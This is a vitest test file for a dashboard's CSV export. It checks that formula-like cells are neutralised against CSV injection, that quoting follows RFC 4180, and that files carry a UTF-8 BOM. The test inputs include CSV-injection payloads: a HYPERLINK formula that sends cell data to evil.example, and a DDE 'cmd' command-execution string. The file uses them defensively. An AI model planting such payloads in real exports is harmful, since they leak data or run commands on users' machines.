// "Save the data" as CSV: formula-like text is neutralised (OWASP CSV
// injection), numbers stay numbers, quoting follows RFC 4180 (checked by
// reading the output back with the ETL's own RFC 4180 parser), and the file is
// UTF-8 with a BOM so Excel opens Chinese text correctly.
import { describe, expect, it } from 'vitest';
import { neutraliseFormula, toCsv, type CsvColumn } from '../../../dashboard/src/export/csv.ts';
import { textBlob } from '../../../dashboard/src/export/download.ts';
import { CsvParser } from '../../../etl/ingest/csv-parser.ts';

const COLUMNS: CsvColumn[] = [{ key: 'region', label: '区域' }, { key: 'value', label: 'Value' }];

/** The cells of a CSV text (BOM removed), as a spreadsheet or the ETL reads them. */
function cells(csv: string): string[][] {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  const parser = new CsvParser();
  const records = [...parser.push(csv.slice(1)), ...parser.end()];
  for (const r of records) expect(r.error ?? null, r.raw).toBeNull();
  return records.map((r) => r.fields);
}

describe('csv export: formula injection', () => {
  const formulas = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击")',
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    "=cmd|' /C calc'!A0",
    '-',
    '-5', // text, not a number: a text cell that a spreadsheet would read as a formula start
  ];

  it('prefixes a single quote to text cells that start with = + - @ tab or CR, in data and in headers', () => {
    const rows = formulas.map((f) => ({ region: f, value: 1 }));
    const read = cells(toCsv([{ key: 'region', label: '=HEADER()' }, { key: 'value', label: '@label' }], rows));
    expect(read[0]).toEqual(["'=HEADER()", "'@label"]);
    expect(read.slice(1).map((r) => r[0])).toEqual(formulas.map((f) => `'${f}`));
    for (const f of formulas) expect(neutraliseFormula(f)).toBe(`'${f}`);
  });

  it('leaves other text alone, formula characters inside it included', () => {
    for (const t of ['云岭县', 'a=b', 'x+1', 'email@example.com', ' =1', "'=1", '', '1-2']) {
      expect(neutraliseFormula(t)).toBe(t);
    }
    expect(cells(toCsv(COLUMNS, [{ region: 'a=b', value: 'x-1' }]))[1]).toEqual(['a=b', 'x-1']);
  });

  it('writes numbers as numbers: negative ones untouched, integer BigInts from DuckDB too', () => {
    const csv = toCsv(COLUMNS, [{ region: '云岭县', value: -5 }, { region: 'b', value: -0.25 }, { region: 'c', value: -3n }, { region: 'd', value: -1e-7 }]);
    expect(csv).toBe('\uFEFF区域,Value\r\n云岭县,-5\r\nb,-0.25\r\nc,-3\r\nd,-1e-7\r\n');
    for (const [, v] of cells(csv).slice(1)) expect(Number.isFinite(Number(v))).toBe(true);
  });

  it('writes empty cells for null, undefined and non-finite numbers', () => {
    expect(toCsv(COLUMNS, [{ region: null, value: Number.NaN }, { value: Number.POSITIVE_INFINITY }])).toBe('\uFEFF区域,Value\r\n,\r\n,\r\n');
  });
});

describe('csv export: RFC 4180', () => {
  it('quotes fields with quotes, commas, CR or LF, doubles quotes, ends records with CRLF', () => {
    const rows = [
      { region: 'say "hi"', value: 'x,y' },
      { region: 'line 1\nline 2', value: 'a\r\nb' },
      { region: '"', value: ',' },
      { region: '=A1,"x"\n', value: 2 },
    ];
    const csv = toCsv(COLUMNS, rows);
    expect(csv).toBe(
      '\uFEFF区域,Value\r\n' +
      '"say ""hi""","x,y"\r\n' +
      '"line 1\nline 2","a\r\nb"\r\n' +
      '"""",","\r\n' +
      '"\'=A1,""x""\n",2\r\n',
    );
    expect(cells(csv)).toEqual([
      ['区域', 'Value'],
      ['say "hi"', 'x,y'],
      ['line 1\nline 2', 'a\r\nb'],
      ['"', ','],
      ["'=A1,\"x\"\n", '2'],
    ]);
  });
});

describe('csv export: encoding', () => {
  it('is UTF-8 with a BOM: the downloaded bytes start EF BB BF and decode to the Chinese text', async () => {
    const csv = toCsv(COLUMNS, [{ region: '云岭县', value: 1 }]);
    const blob = textBlob(csv, 'text/csv;charset=utf-8');
    expect(blob.type).toBe('text/csv;charset=utf-8');
    const bytes = new Uint8Array(await blob.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(bytes)).toBe(csv);
    expect(new TextDecoder('utf-8').decode(bytes)).toBe('区域,Value\r\n云岭县,1\r\n'); // a BOM-aware reader sees no stray character
    expect(csv.indexOf('\uFEFF', 1)).toBe(-1); // one BOM, at the start only
  });
});
